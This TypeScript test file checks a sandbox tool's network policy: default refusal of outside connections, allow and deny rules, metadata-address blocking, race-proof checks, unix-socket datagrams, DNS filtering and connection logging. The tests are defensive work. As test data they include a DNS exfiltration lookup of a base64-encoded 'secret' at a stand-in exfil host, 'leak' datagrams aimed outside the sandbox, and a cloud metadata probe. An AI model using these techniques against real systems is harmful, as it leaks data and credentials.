/**
 * The network policy through `brokered-shell run` (the seccomp runtime, the real
 * supervisor): with no configuration a server outside the command is refused at once
 * (EACCES) and hears nothing, an allow entry reaches it, the command's own servers are
 * reachable, `mode: off` refuses everything, a racing thread cannot swap the address
 * after the check, a datagram cannot reach an outside unix socket, and a refused name
 * never reaches the resolver. Every connection is in the turn's record.
 */
import { spawn } from 'node:child_process';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { DNS_PY, fakeResolver, tcpServer, udpServer, type FakeResolver, type TcpServer } from './network-helpers.js';
import { brokeredShell, buildTools, describeRun, makeWorld, removeWorld, run, type World } from './run-helpers.js';

let world: World;
const closers: Array<() => Promise<void>> = [];

beforeAll(async () => {
  world = await makeWorld('network');
  buildTools(world, ['inet-connect-racer']);
  await fs.writeFile(path.join(world.tools, 'dns.py'), DNS_PY);
  await fs.writeFile(
    path.join(world.tools, 'connect.py'),
    `
import errno, socket, sys
s = socket.socket()
try:
    s.connect((sys.argv[1], int(sys.argv[2]))); s.sendall(b'hello'); print('connected')
except OSError as e:
    print(errno.errorcode[e.errno])
`,
  );
});
afterAll(() => removeWorld(world));
beforeEach(async () => {
  await fs.rm(path.join(world.home, 'config.json'), { force: true });
});
afterEach(async () => {
  for (const close of closers.splice(0)) await close();
});

async function server(): Promise<TcpServer> {
  const s = await tcpServer();
  closers.push(() => s.close());
  return s;
}

async function policy(network: unknown): Promise<string> {
  const file = path.join(world.base, `policy-${Math.random().toString(36).slice(2)}.json`);
  await fs.writeFile(file, JSON.stringify({ network }));
  return file;
}

const connect = (port: number, host = '127.0.0.1') => `python3 "$TOOLS/connect.py" ${host} ${port}`;

describe('connections to servers outside the command', () => {
  it('are refused by default with EACCES, the server hears nothing, and run names the setting once', async () => {
    const outside = await server();
    const result = await run(world, `${connect(outside.port)}; ${connect(outside.port)}`, { session: 'refused' });
    expect(result.out, describeRun(result)).toBe('EACCES\nEACCES\n');
    expect(outside.connections()).toBe(0);
    const lines = result.stderr.split('\n').filter((line) => line.includes('refused a connection'));
    expect(lines).toEqual([expect.stringContaining(`"127.0.0.1:${outside.port}" in network.allow of ${path.join(world.home, 'config.json')} would allow it`)]);
  });

  it('are reached with {"network":{"allow":["127.0.0.1:PORT"]}}, from a policy file or the home config', async () => {
    const outside = await server();
    const viaPolicy = await run(world, connect(outside.port), { policy: await policy({ allow: [`127.0.0.1:${outside.port}`] }) });
    expect(viaPolicy.out, describeRun(viaPolicy)).toBe('connected\n');
    await fs.writeFile(path.join(world.home, 'config.json'), JSON.stringify({ network: { allow: [`127.0.0.1:${outside.port}`] } }));
    const viaHome = await run(world, connect(outside.port));
    expect(viaHome.out, describeRun(viaHome)).toBe('connected\n');
    for (let i = 0; i < 100 && outside.received() !== 'hellohello'; i++) await new Promise((resolve) => setTimeout(resolve, 20));
    expect(outside.received()).toBe('hellohello');
    // Another port of the same address is still refused.
    const other = await server();
    const refused = await run(world, connect(other.port), { policy: await policy({ allow: [`127.0.0.1:${outside.port}`] }) });
    expect(refused.out, describeRun(refused)).toBe('EACCES\n');
    expect(other.connections()).toBe(0);
  });

  it('stay refused when network.deny names them, whatever allow says', async () => {
    const outside = await server();
    const result = await run(world, connect(outside.port), { policy: await policy({ allow: ['127.0.0.0/8'], deny: [`127.0.0.1:${outside.port}`] }) });
    expect(result.out, describeRun(result)).toBe('EACCES\n');
    expect(result.stderr).toContain('network.deny names it');
    expect(outside.connections()).toBe(0);
  });

  it('to link-local and metadata addresses are refused even under a broad allow entry', async () => {
    const result = await run(world, `${connect(80, '169.254.169.254')}`, { policy: await policy({ allow: ['0.0.0.0/0'] }) });
    expect(result.out, describeRun(result)).toBe('EACCES\n');
    expect(result.stderr).toContain('link-local and metadata addresses are refused unless network.allow names them');
  });
});

describe('a connection from a thread other than the main one', () => {
  it('is decided as the main thread\'s: allowed where allowed, refused elsewhere', async () => {
    const allowed = await server();
    const refused = await server();
    const result = await run(
      world,
      `python3 -c '
import errno, socket, sys, threading
def connect(port):
    s = socket.socket()
    try:
        s.connect(("127.0.0.1", port)); s.sendall(b"thread"); print("connected", flush=True)
    except OSError as e:
        print(errno.errorcode[e.errno], flush=True)
for port in sys.argv[1:]:
    t = threading.Thread(target=connect, args=(int(port),)); t.start(); t.join()
' ${allowed.port} ${refused.port}`,
      { policy: await policy({ allow: [`127.0.0.1:${allowed.port}`] }) },
    );
    expect(result.out, describeRun(result)).toBe('connected\nEACCES\n');
    expect(refused.connections()).toBe(0);
  });
});

describe("the command's own servers", () => {
  it('are reachable on loopback by default, over TCP and UDP', async () => {
    const result = await run(
      world,
      `python3 -c '
import socket
srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(1)
c = socket.socket(); c.connect(("127.0.0.1", srv.getsockname()[1])); c.sendall(b"tcp inside")
print(srv.accept()[0].recv(32).decode())
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("127.0.0.1", 0))
v = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); v.sendto(b"udp inside", u.getsockname())
print(u.recv(32).decode())
'`,
    );
    expect(result.out, describeRun(result)).toBe('tcp inside\nudp inside\n');
  });
});

describe('network.mode off', () => {
  it('refuses every connection and lookup, with a line naming the mode', async () => {
    const outside = await server();
    const off = await policy({ mode: 'off', allow: [`127.0.0.1:${outside.port}`] });
    const result = await run(world, `${connect(outside.port)}; getent hosts registry.npmjs.org >/dev/null; echo lookup $?`, { policy: off });
    expect(result.out, describeRun(result)).toBe('EACCES\nlookup 2\n');
    expect(outside.connections()).toBe(0);
    expect(result.stderr).toContain(`refused a connection to 127.0.0.1:${outside.port} (tcp) (network.mode is off)`);
  });
});

describe('a thread that swaps the address during the call', () => {
  it('never reaches the refused port, by connect or by sendto', async () => {
    const allowed = await server();
    const denied = await server();
    const deniedUdp = await udpServer(denied.port);
    closers.push(() => deniedUdp.close());
    const result = await run(world, `"$TOOLS/inet-connect-racer" ${allowed.port} ${denied.port} 2000`, { policy: await policy({ allow: [`127.0.0.1:${allowed.port}`] }) });
    const [, connected = 0, refused = 0] = /connected (\d+) refused (\d+)/.exec(result.out)?.map(Number) ?? [];
    expect(connected, describeRun(result)).toBeGreaterThan(0);
    expect(refused).toBeGreaterThan(0);
    for (let i = 0; i < 200 && allowed.connections() < connected; i++) await new Promise((resolve) => setTimeout(resolve, 10));
    expect(allowed.connections()).toBe(connected);
    expect(denied.connections()).toBe(0);
    expect(deniedUdp.datagrams()).toBe(0);
  });
});

describe('datagrams to unix sockets', () => {
  it('never reach a socket outside the temp dir (EACCES), by sendto and by sendmsg, and reach one inside it', async () => {
    const door = path.join(world.outside, 'door.sock');
    // A datagram receiver outside the sandbox (node has no unix datagram sockets).
    const receiver = spawn('python3', ['-c', `
import socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.bind(sys.argv[1]); s.settimeout(3)
print('ready', flush=True)
try:
    print('got', s.recv(64).decode(), flush=True)
except socket.timeout:
    print('nothing', flush=True)
`, door]);
    let heard = '';
    receiver.stdout.on('data', (chunk: Buffer) => (heard += chunk.toString()));
    for (let i = 0; i < 200 && !heard.includes('ready'); i++) await new Promise((resolve) => setTimeout(resolve, 10));
    const result = await run(
      world,
      `python3 -c '
import errno, os, socket, sys
c = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
for how in ("sendto", "sendmsg"):
    try:
        c.sendto(b"leak", sys.argv[1]) if how == "sendto" else c.sendmsg([b"leak"], [], 0, sys.argv[1])
        print(how, "sent")
    except OSError as e:
        print(how, errno.errorcode[e.errno])
own = os.path.join(os.environ["TMPDIR"], "own.sock")
srv = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); srv.bind(own)
c.sendmsg([b"in", b"side"], [], 0, own); print(srv.recv(16).decode())
' "${door}"`,
    );
    await new Promise((resolve) => receiver.once('close', resolve));
    expect(result.out, describeRun(result)).toBe('sendto EACCES\nsendmsg EACCES\ninside\n');
    expect(heard).toBe('ready\nnothing\n');
  });
});

describe('DNS', () => {
  let resolver: FakeResolver;
  let resolvConf: string;
  let own: string;

  beforeAll(async () => {
    own = Object.values(os.networkInterfaces())
      .flat()
      .find((entry) => entry && entry.family === 'IPv4' && !entry.internal)?.address ?? '';
    resolver = await fakeResolver({ 'allowed.test': own, 'loop.allowed.test': '127.0.0.1' });
    resolvConf = path.join(world.base, 'resolv.conf');
    await fs.writeFile(resolvConf, `nameserver 127.0.0.1:${resolver.port}\n`);
  });
  afterAll(() => resolver.close());
  beforeEach(() => void resolver.queries.splice(0));

  const dnsRun = (mode: string, names: string, network: unknown = { allow: ['allowed.test', '*.allowed.test'] }) =>
    policy(network).then((file) => run(world, `python3 "$TOOLS/dns.py" ${resolver.port} ${mode} ${names}`, { policy: file }, { env: { BROKERED_SHELL_RESOLV_CONF: resolvConf } }));

  it.each(['sendto', 'udp', 'tcp'])('a refused name gets an answer at once (%s) and leaves no query on the wire', async (mode) => {
    const result = await dnsRun(mode, 'c2VjcmV0.exfil.example.net');
    expect(result.out, describeRun(result)).toMatch(/^c2VjcmV0\.exfil\.example\.net (rcode 5|error EACCES)\n$/);
    expect(resolver.queries).toEqual([]);
    expect(result.stderr).toContain('refused to look up the name c2vjcmv0.exfil.example.net');
  });

  it.each(['sendto', 'udp', 'tcp'])('an allowed name is asked of the resolver (%s), written afresh', async (mode) => {
    const result = await dnsRun(mode, 'allowed.test');
    expect(result.out, describeRun(result)).toBe(`allowed.test address ${own}\n`);
    expect(resolver.queries.map((q) => q.name)).toEqual(['allowed.test']);
    // The question alone, with a header the supervisor wrote: nothing of the command's query but its name.
    const bytes = resolver.queries[0]?.bytes ?? Buffer.alloc(0);
    expect(bytes.readUInt16BE(4)).toBe(1);
    expect(bytes.readUInt16BE(10)).toBe(0);
  });

  it("an allowed name's address is allowed for the connection that follows; a loopback answer is not", async () => {
    const target = await tcpServer(own);
    closers.push(() => target.close());
    const file = await policy({ allow: ['allowed.test', '*.allowed.test'] });
    const result = await run(
      world,
      `python3 "$TOOLS/dns.py" ${resolver.port} tcp allowed.test loop.allowed.test >/dev/null; ${connect(target.port, own)}; ${connect(target.port, '127.0.0.1')}`,
      { policy: file },
      { env: { BROKERED_SHELL_RESOLV_CONF: resolvConf } },
    );
    expect(result.out, describeRun(result)).toBe('connected\nEACCES\n');
  });
});

describe("the turn's record", () => {
  it('lists every connection, allowed or refused, in backups show --json and its table', async () => {
    const outside = await server();
    const refusedServer = await server();
    await run(world, `${connect(outside.port)}; ${connect(refusedServer.port)}; ${connect(outside.port)}`, { session: 'record', policy: await policy({ allow: [`127.0.0.1:${outside.port}`] }) });
    const shown = await brokeredShell(world, ['backups', 'show', 'latest', '--json']);
    const manifest = JSON.parse(shown.out) as { connections?: Array<Record<string, unknown>> };
    expect(manifest.connections, shown.stderr).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ kind: 'connect', protocol: 'tcp', address: '127.0.0.1', port: outside.port, verdict: 'allow', count: 2 }),
        expect.objectContaining({ kind: 'connect', protocol: 'tcp', address: '127.0.0.1', port: refusedServer.port, verdict: 'deny', count: 1 }),
      ]),
    );
    const text = await brokeredShell(world, ['backups', 'show', 'latest']);
    expect(text.out).toMatch(new RegExp(`allow\\s+tcp\\s+127\\.0\\.0\\.1:${outside.port}\\s+2`));
    expect(text.out).toMatch(new RegExp(`deny\\s+tcp\\s+127\\.0\\.0\\.1:${refusedServer.port}\\s+1`));
  });
});
